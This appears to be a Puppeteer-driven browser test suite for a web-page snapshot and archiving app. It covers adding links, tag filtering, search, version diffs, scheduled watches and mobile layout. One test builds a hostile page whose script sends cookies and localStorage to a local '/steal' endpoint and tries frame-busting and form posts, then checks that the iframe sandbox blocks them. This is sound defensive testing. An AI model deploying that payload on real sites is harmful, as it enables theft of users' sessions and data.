// The web page in a real Chromium driven by puppeteer-core against the running server and the
// real service: add a link from the home page and watch it complete and join the list, filter by
// tag, search a Chinese substring, open the snapshot view, see the archived page inside its
// sandbox (and a hostile one get nowhere), compare two versions side by side, edit tags, delete,
// switch language, and read it on a phone. Screenshots land in SCREENSHOT_DIR.
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Snapshot } from '../src/core/types.js';
import { createWebServer, type WebServer } from '../src/web/index.js';
import { headlessModeFor } from '../src/core/capture/find-chrome.js';
import { DesktopChromium, TestChromiumArgs } from './helpers/chromium.js';
import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';
import { startTestApp, type TestApp } from './helpers/app.js';

const ScreenshotDir = path.join(os.tmpdir(), 'linksnap-web-screenshots');

let fixtures: FixtureServer;
let hostile: { origin: string; requests: string[]; close(): Promise<void> };
let t: TestApp;
let web: WebServer;
let base: string;
let browser: Browser;
let page: Page;
/** The two versions the compare test made, for the phone layout check. */
let diffView: { from: string; to: string };

/** A saved page that, once shown inside a frame, tries to read cookies and storage, navigate the top window and post a form. */
function hostilePage(origin: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile archived page</title></head>
<body style="font: 20px sans-serif; background: #ffe9a8">
<h1 id="hostile-heading">Hostile archived page</h1>
<p>This page tries to escape the frame it is shown in.</p>
<form id="exfil" method="post" action="${origin}/form-post"><input name="x" value="1"><button>Send</button></form>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="new Image().src='${origin}/steal?via=onerror'">
<script>
  // Only inside a frame: the capture itself (top level) must stay undisturbed.
  if (window.top !== window) {
    try { new Image().src = '${origin}/steal?cookie=' + encodeURIComponent(document.cookie); } catch (e) { new Image().src = '${origin}/steal?cookie-threw'; }
    try { new Image().src = '${origin}/steal?storage=' + encodeURIComponent(JSON.stringify(localStorage)); } catch (e) {}
    try { top.location.href = '${origin}/top-navigation'; } catch (e) {}
    try { document.getElementById('exfil').submit(); } catch (e) {}
  }
</script>
</body></html>`;
}

async function startHostileServer(): Promise<typeof hostile> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    if (req.url === '/hostile.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(hostilePage(origin));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/plain' }).end('caught');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  return {
    origin,
    requests,
    close: () => new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    }),
  };
}

async function shot(name: string): Promise<string> {
  const file = path.join(ScreenshotDir, `${name}.png`);
  await page.screenshot({ path: file as `${string}.png`, fullPage: true });
  return file;
}

/** Visible means laid out with a size, not hidden, and not transparent. */
async function expectVisible(selector: string): Promise<void> {
  const handle = await page.waitForSelector(selector, { visible: true });
  const box = await handle!.boundingBox();
  expect(box, selector).not.toBeNull();
  expect(box!.width, selector).toBeGreaterThan(0);
  expect(box!.height, selector).toBeGreaterThan(0);
}

async function snapViaService(url: string, tags: string[], force = false): Promise<Snapshot> {
  const accepted = await t.service.snap({ url, tags, force, workspace: { id: 'local', platform: 'web' }, requester: { id: 'local' }, source: { platform: 'web' } });
  return t.service.waitFor(accepted.snapshot.id);
}

function harbourPage(paragraphs: string[]): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The harbour log</title></head>
<body style="font: 18px sans-serif"><article><h1>The harbour log</h1>${paragraphs.map((p) => `<p>${p}</p>`).join('')}</article></body></html>`;
}

beforeAll(async () => {
  fs.mkdirSync(ScreenshotDir, { recursive: true });
  fixtures = await startFixtureServer();
  hostile = await startHostileServer();
  t = await startTestApp({ env: { LINKSNAP_PORT: '0' } });
  web = createWebServer({ service: t.service, config: t.config, logger: t.logger });
  base = await web.listen();
  browser = await puppeteer.launch({
    executablePath: DesktopChromium,
    headless: headlessModeFor(DesktopChromium),
    args: [...TestChromiumArgs, '--lang=en-US'],
  });
  page = await browser.newPage();
  await page.setViewport({ width: 1280, height: 900 });
  await page.setExtraHTTPHeaders({ 'accept-language': 'en-US,en;q=0.9' });
});

afterAll(async () => {
  await browser?.close();
  await web?.close();
  await t?.close();
  await hostile?.close();
  await fixtures?.close();
});

describe('web page in Chromium', () => {
  it('adds a link from the home page, shows its progress until the snapshot is ready and lists it', async () => {
    await page.goto(`${base}/`);
    await expectVisible('#add-form');
    await page.type('#url', fixtures.url('/article.html'));
    await page.type('#tags', 'news, lighthouse');
    // Record every status the progress area shows, so the test sees the live updates.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { seen: string[] }).seen = seen;
      new MutationObserver(() => {
        const status = document.getElementById('progress')!.getAttribute('data-status');
        if (status && seen[seen.length - 1] !== status) seen.push(status);
      }).observe(document.getElementById('progress')!, { attributes: true });
    });
    await page.click('#add-submit');
    await page.waitForSelector('#progress[data-status="done"]', { timeout: 45_000 });
    await expectVisible('#result .result-card img');
    await expectVisible('#open-snapshot');
    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen[seen.length - 1]).toBe('done');
    expect(seen.length).toBeGreaterThanOrEqual(2);
    expect(await page.$eval('#result h2', (el) => el.textContent)).toBe('The Quiet Lighthouse of Vannamere');
    // The thumbnail is fetched once the card is shown; wait until the browser is done with it
    // (loaded or failed), then check that it loaded.
    await page.waitForFunction(() => (document.querySelector('#result img') as HTMLImageElement | null)?.complete === true, { timeout: 15_000 });
    const thumbLoaded = await page.$eval('#result img', (img) => (img as HTMLImageElement).naturalWidth);
    expect(thumbLoaded).toBeGreaterThan(0);
    // The list under the form now shows the new link, captured, with its tags; no reload needed.
    const id = (await page.$eval('#open-snapshot', (a) => a.getAttribute('href')!)).split('/s/')[1];
    const card = `#link-list .card[data-snapshot="${id}"]`;
    await page.waitForSelector(`${card}[data-status="done"]`, { timeout: 15_000 });
    expect(await page.$eval(`${card} .card-title`, (el) => el.textContent?.trim())).toBe('The Quiet Lighthouse of Vannamere');
    expect(await page.$$eval(`${card} .tag`, (tags) => tags.map((tag) => tag.getAttribute('data-tag')).sort())).toEqual(['lighthouse', 'news']);
    await expectVisible(`${card} .badge.status-done`);
    expect(await page.$$eval('#tag-list .chip', (chips) => chips.map((chip) => chip.textContent?.replace(/\s+/g, ' ').trim()))).toEqual(['#lighthouse 1', '#news 1']);
    // The form is above the list.
    const formBox = await (await page.$('#add-form'))!.boundingBox();
    const listBox = await (await page.$('#link-list'))!.boundingBox();
    expect(formBox!.y + formBox!.height).toBeLessThanOrEqual(listBox!.y);
    await shot('1-add-done');
  });

  it('shows a bad link as a specific error next to the form', async () => {
    await page.goto(`${base}/`);
    await page.type('#url', 'ftp://example.com/file');
    await page.click('#add-submit');
    await page.waitForSelector('#add-error:not([hidden])');
    expect(await page.$eval('#add-error', (el) => el.textContent)).toContain('Only http and https links can be captured');
    expect(await page.$eval('#add-submit', (el) => (el as HTMLButtonElement).disabled)).toBe(false);
  });

  it('lists links, filters by a clicked tag and searches a Chinese substring', async () => {
    await snapViaService(fixtures.url('/cjk.html'), ['中文', '日记']);
    await page.goto(`${base}/`);
    await expectVisible('#link-list');
    const titles = () => page.$$eval('#link-list .card-title', (nodes) => nodes.map((n) => n.textContent?.trim()));
    expect(await titles()).toEqual(['网页快照测试：灯塔守望者的日记', 'The Quiet Lighthouse of Vannamere']);
    await expectVisible('.tag-list');
    await expectVisible('#link-list .card img');
    await shot('2-links');

    await Promise.all([page.waitForNavigation(), page.click('.tag-list a.chip[href*="tag=%E4%B8%AD%E6%96%87"]')]);
    expect(new URL(page.url()).searchParams.getAll('tag')).toEqual(['中文']);
    expect(await titles()).toEqual(['网页快照测试：灯塔守望者的日记']);
    await expectVisible('.tag-list a.chip.active');
    await shot('3-filter-tag');

    await page.goto(`${base}/`);
    await page.type('#q', '守望者');
    await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
    expect(await titles()).toEqual(['网页快照测试：灯塔守望者的日记']);
    await page.goto(`${base}/?q=${encodeURIComponent('Vannamere')}`);
    expect(await titles()).toEqual(['The Quiet Lighthouse of Vannamere']);
    await page.goto(`${base}/?q=${encodeURIComponent('没有这个词')}`);
    expect(await titles()).toEqual([]);
    await expectVisible('p.empty');
    await shot('4-search-none');
  });

  it('adds and removes tags in place on a card', async () => {
    await page.goto(`${base}/`);
    const card = '#link-list .card:last-child';
    await page.type(`${card} .tag-add input`, '#Evidence');
    await page.click(`${card} .tag-add button`);
    await page.waitForSelector(`${card} .tag[data-tag="evidence"]`);
    const snapshotId = await page.$eval(card, (el) => el.getAttribute('data-snapshot')!);
    const snapshot = await t.service.getSnapshotById(snapshotId);
    expect((await t.service.getLink('local', snapshot.linkId)).tags).toContain('evidence');
    await page.click(`${card} .tag-remove[data-tag="evidence"]`);
    await page.waitForFunction((sel) => !document.querySelector(`${sel} .tag[data-tag="evidence"]`), {}, card);
    expect((await t.service.getLink('local', snapshot.linkId)).tags).not.toContain('evidence');
  });

  it('opens the snapshot view: screenshot, archived page in a sandboxed frame, text, details, fingerprints', async () => {
    await page.goto(`${base}/?tag=news`);
    await Promise.all([page.waitForNavigation(), page.click('#link-list .card-title a')]);
    expect(page.url()).toMatch(/\/s\/[\w-]+$/);
    const id = page.url().split('/s/')[1];
    const snapshot = await t.service.getSnapshotById(id);
    await expectVisible('h1');
    expect(await page.$eval('h1', (el) => el.textContent)).toBe('The Quiet Lighthouse of Vannamere');
    await expectVisible('img.screenshot');
    expect(await page.$eval('img.screenshot', (img) => (img as HTMLImageElement).naturalWidth)).toBe(1280);
    await expectVisible('iframe#archive-frame');
    expect(await page.$eval('iframe#archive-frame', (el) => el.getAttribute('sandbox'))).toBe('');
    await expectVisible('table.files');
    const hashes = await page.$$eval('table.files td.hash', (cells) => cells.map((c) => c.textContent));
    expect(hashes).toContain(snapshot.artifacts.archive!.sha256);
    expect(hashes).toContain(snapshot.artifacts.mhtml!.sha256);
    expect(await page.$eval('.versions', (el) => el.textContent)).toContain('Ready');

    // The archived page renders inside the frame: its own heading, and pixels that are not blank.
    const frameHandle = await page.$('iframe#archive-frame');
    await frameHandle!.scrollIntoView();
    const frame = await frameHandle!.contentFrame();
    await frame.waitForSelector('h1');
    expect(await frame.$eval('h1', (el) => el.textContent)).toContain('Lighthouse');
    const frameShot = await frameHandle!.screenshot();
    const stats = await sharp(frameShot).stats();
    expect(Math.max(...stats.channels.map((c) => c.stdev))).toBeGreaterThan(5);
    await shot('5-snapshot-view');
  });

  it('keeps a hostile archived page from reading cookies or storage, navigating the top window or posting forms', async () => {
    const snapshot = await snapViaService(`${hostile.origin}/hostile.html`, ['hostile']);
    expect(snapshot.status).toBe('done');
    // The file store names each blob by its path on disk.
    const archivePath = t.app.blobs.locator(snapshot.artifacts.archive!.sha256);
    expect(fs.readFileSync(archivePath, 'utf8')).toContain('Hostile archived page');
    // The archiver strips scripts; put them back, as if it had missed some, so only the sandbox stands in the way.
    fs.chmodSync(archivePath, 0o644);
    fs.writeFileSync(archivePath, hostilePage(hostile.origin));
    const before = hostile.requests.length;

    const view = `${base}/s/${snapshot.id}`;
    await page.setCookie({ name: 'viewer_secret', value: 'cookie-s3cret', url: base });
    await page.goto(view);
    await page.evaluate(() => localStorage.setItem('viewer_secret', 'storage-s3cret'));
    await page.reload();
    const frameHandle = await page.waitForSelector('iframe#archive-frame');
    await frameHandle!.scrollIntoView();
    const frame = await frameHandle!.contentFrame();
    await frame.waitForSelector('#hostile-heading');

    // Acting from inside the frame as the page's own code would: every door is shut.
    const probe = await frame.evaluate((origin) => {
      const out: Record<string, string> = { origin: self.origin };
      try {
        out.cookie = `read:${document.cookie}`;
      } catch (error) {
        out.cookie = `threw:${(error as Error).name}`;
      }
      try {
        out.storage = `read:${JSON.stringify(localStorage)}`;
      } catch (error) {
        out.storage = `threw:${(error as Error).name}`;
      }
      try {
        out.parent = `read:${window.parent.document.cookie}`;
      } catch (error) {
        out.parent = `threw:${(error as Error).name}`;
      }
      try {
        window.top!.location.href = `${origin}/top-navigation-probe`;
        out.top = 'assigned';
      } catch (error) {
        out.top = `threw:${(error as Error).name}`;
      }
      try {
        (document.getElementById('exfil') as HTMLFormElement).submit();
        out.form = 'submitted';
      } catch (error) {
        out.form = `threw:${(error as Error).name}`;
      }
      return out;
    }, hostile.origin);
    expect(probe.origin).toBe('null');
    expect(probe.cookie).toMatch(/^threw:SecurityError/);
    expect(probe.storage).toMatch(/^threw:SecurityError/);
    expect(probe.parent).toMatch(/^threw:SecurityError/);
    // Give a navigation or form post that slipped through every chance to reach the hostile server.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(page.url()).toBe(view);
    const after = hostile.requests.slice(before);
    expect(after.filter((r) => /steal|top-navigation|form-post/.test(r))).toEqual([]);
    expect(after.join(' ')).not.toMatch(/s3cret/);
    expect(await page.evaluate(() => localStorage.getItem('viewer_secret'))).toBe('storage-s3cret');
    await shot('6-hostile-sandboxed');
  });

  it('a snapshot still being captured updates itself when ready', async () => {
    const accepted = await t.service.snap({
      url: fixtures.url('/slow?ms=2500'),
      workspace: { id: 'local', platform: 'web' },
      requester: { id: 'local' },
      source: { platform: 'web' },
    });
    await page.goto(`${base}/s/${accepted.snapshot.id}`);
    const reloaded = page.waitForNavigation({ timeout: 45_000 });
    await expectVisible('#pending');
    await reloaded;
    expect(await page.$eval('article.snapshot', (el) => el.getAttribute('data-status'))).toBe('done');
    expect(await page.$('#pending')).toBeNull();
    await expectVisible('img.screenshot');
  });

  it('a signed link opens the snapshot, its files and the sandboxed archive in a fresh browser without the token', async () => {
    const locked = createWebServer({ service: t.service, config: { ...t.config, apiToken: 'browser-test-token-123' }, logger: t.logger });
    const lockedBase = await locked.listen();
    const context = await browser.createBrowserContext();
    try {
      const [item] = (await t.service.find({ workspaceId: 'local', tags: ['news'] })).items;
      const signed = locked.snapshotUrl(item.snapshot);
      expect(signed.startsWith(`${lockedBase}/s/`)).toBe(true);
      const guest = await context.newPage();
      await guest.setViewport({ width: 1280, height: 900 });
      const response = await guest.goto(signed);
      expect(response!.status()).toBe(200);
      expect(await guest.$eval('h1', (el) => el.textContent)).toBe('The Quiet Lighthouse of Vannamere');
      await guest.waitForSelector('img.screenshot', { visible: true });
      expect(await guest.$eval('img.screenshot', (img) => (img as HTMLImageElement).naturalWidth)).toBe(1280);
      const frameHandle = await guest.waitForSelector('iframe#archive-frame');
      await frameHandle!.scrollIntoView();
      const frame = await frameHandle!.contentFrame();
      await frame.waitForSelector('h1');
      expect(await frame.$eval('h1', (el) => el.textContent)).toContain('Lighthouse');
      expect(await guest.$('button.delete')).toBeNull();
      await guest.screenshot({ path: path.join(ScreenshotDir, '9-signed-link.png') as `${string}.png`, fullPage: true });
      // The same browser still cannot see anything else.
      await guest.goto(`${lockedBase}/links`);
      expect(new URL(guest.url()).pathname).toBe('/login');
      await guest.waitForSelector('input[type=password]', { visible: true });
    } finally {
      await context.close();
      await locked.close();
    }
  });

  it('compares two versions side by side from the versions list, and any two through the compare form', async () => {
    const paragraphs = [
      'The harbour master keeps this log of everything that happens along the quay, from the first boat out to the last one in.',
      'Fishing boats leave before dawn and come back by noon; the market opens as soon as the first catch is landed.',
      'Visitors are asked to keep to the marked paths on the breakwater, which is slippery when the tide is high.',
    ];
    const added = 'A new pier opened on the north side, and the ferry now stops there twice a day.';
    fixtures.setPage('/harbour', harbourPage(paragraphs));
    const before = await snapViaService(fixtures.url('/harbour'), ['harbour'], true);
    fixtures.setPage('/harbour', harbourPage([...paragraphs.slice(0, 2), added, paragraphs[2]]));
    const after = await snapViaService(fixtures.url('/harbour'), [], true);
    expect([before.status, after.status]).toEqual(['done', 'done']);
    diffView = { from: before.id, to: after.id };

    await page.goto(`${base}/s/${after.id}`);
    await expectVisible('#change-summary');
    expect(await page.$eval('#change-summary', (el) => el.textContent)).toMatch(/^Changed since .+ UTC: \+1 −0 lines\./);
    await Promise.all([page.waitForNavigation(), page.click(`.versions li[data-version="${after.id}"] a.compare-previous`)]);
    expect(new URL(page.url()).pathname).toBe(`/s/${after.id}/diff`);
    expect(new URL(page.url()).searchParams.get('against')).toBe(before.id);

    await expectVisible('table.diff td.add ins');
    expect(await page.$$eval('table.diff td.add ins', (cells) => cells.map((c) => c.textContent))).toEqual([`Added: ${added}`]);
    expect(await page.$$eval('table.diff td.del', (cells) => cells.length)).toBe(0);
    // Side by side: the added line is in the right-hand column, level with an empty left cell.
    const row = await page.$('table.diff tr.changed');
    const left = await (await row!.$('td.old'))!.boundingBox();
    const right = await (await row!.$('td.add'))!.boundingBox();
    expect(right!.x).toBeGreaterThan(left!.x + left!.width - 1);
    expect(Math.abs(right!.y - left!.y)).toBeLessThan(1);
    for (const side of ['before', 'after']) {
      await page.waitForFunction((sel) => (document.querySelector(sel) as HTMLImageElement | null)?.complete === true, { timeout: 15_000 }, `#shot-${side}`);
      expect(await page.$eval(`#shot-${side}`, (img) => (img as HTMLImageElement).naturalWidth), side).toBe(1280);
    }
    const shotBefore = await (await page.$('#shot-before'))!.boundingBox();
    const shotAfter = await (await page.$('#shot-after'))!.boundingBox();
    expect(shotAfter!.x).toBeGreaterThan(shotBefore!.x + shotBefore!.width - 1);
    await shot('10-diff');

    // From the older version, pick the newer one: the view still reads older to newer.
    await page.goto(`${base}/s/${before.id}`);
    await page.select('#compare-against', after.id);
    await Promise.all([page.waitForNavigation(), page.click('form.compare button[type=submit]')]);
    expect(await page.$eval('article.diff-view', (el) => [el.getAttribute('data-from'), el.getAttribute('data-to')])).toEqual([before.id, after.id]);
    expect(await page.$$eval('table.diff td.add ins', (cells) => cells.map((c) => c.textContent))).toEqual([`Added: ${added}`]);
  });

  it('watches a page from its snapshot view on a cron schedule, and stops', async () => {
    await page.goto(`${base}/s/${diffView.to}`);
    await expectVisible('#watch-every');
    // The cron field shows only once "Cron expression" is chosen.
    expect(await page.$eval('#watch-cron', (input) => (input as HTMLElement).offsetParent === null)).toBe(true);
    await page.select('#watch-every', 'cron');
    await expectVisible('#watch-cron');
    await page.type('#watch-cron', '0 9 * * 1');
    await Promise.all([page.waitForNavigation(), page.click('#watch-submit')]);
    await expectVisible('#watching');
    expect(await page.$eval('#watching', (el) => el.textContent)).toMatch(/^Watched on the schedule 0 9 \* \* 1 from this page; next capture .+ UTC\.$/);
    const watch = (await t.service.listWatches('local', null)).find((w) => w.url === fixtures.url('/harbour'));
    expect(watch?.every).toBe('0 9 * * 1');
    await shot('11-watched');
    await Promise.all([page.waitForNavigation(), page.click('#unwatch-submit')]);
    expect(await page.$('#watching')).toBeNull();
    expect((await t.service.listWatches('local', null)).find((w) => w.url === fixtures.url('/harbour'))).toBeUndefined();
  });

  it('deletes a link from the list after confirming', async () => {
    const doomed = await snapViaService(fixtures.url('/empty.html'), ['doomed']);
    await page.goto(`${base}/?tag=doomed`);
    await expectVisible(`.card[data-snapshot="${doomed.id}"]`);
    page.once('dialog', (dialog) => void dialog.accept());
    await page.click(`.card[data-snapshot="${doomed.id}"] button.delete`);
    await page.waitForFunction((id) => !document.querySelector(`.card[data-snapshot="${id}"]`), {}, doomed.id);
    await expect(t.service.getSnapshotById(doomed.id)).rejects.toMatchObject({ code: 'not_found' });
    await page.reload();
    expect(await page.$(`.card[data-snapshot="${doomed.id}"]`)).toBeNull();
  });

  it('speaks Chinese when the browser asks for it, and switches back', async () => {
    await page.setExtraHTTPHeaders({ 'accept-language': 'zh-CN,zh;q=0.9' });
    await page.goto(`${base}/`);
    expect(await page.title()).toContain('链接快照平台');
    const menu = await page.$$eval('nav.menu a', (links) => links.map((a) => a.textContent));
    expect(menu).toEqual(['添加链接', 'link管理']);
    await expectVisible('nav.menu');
    await shot('7-zh-links');
    await Promise.all([page.waitForNavigation(), page.click('a.lang')]);
    expect(await page.$$eval('nav.menu a', (links) => links.map((a) => a.textContent))).toEqual(['Add link', 'Link management']);
    await page.setExtraHTTPHeaders({ 'accept-language': 'en-US,en;q=0.9' });
  });

  it('is readable on a phone and reachable by keyboard', async () => {
    await page.setViewport({ width: 390, height: 844, isMobile: true, hasTouch: true });
    for (const route of ['/', `/s/${diffView.to}`, `/s/${diffView.to}/diff?against=${diffView.from}`]) {
      await page.goto(`${base}${route}`);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow, route).toBeLessThanOrEqual(0);
    }
    await page.goto(`${base}/`);
    await expectVisible('#q');
    await shot('8-phone-links');
    // Tab from the top: the skip link first, then the menu.
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('skip');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('href'))).toBe('/#add');
    // "Add link" jumps to the form and puts the cursor in it.
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement?.id === 'url');
    await page.setViewport({ width: 1280, height: 900 });
  });
});
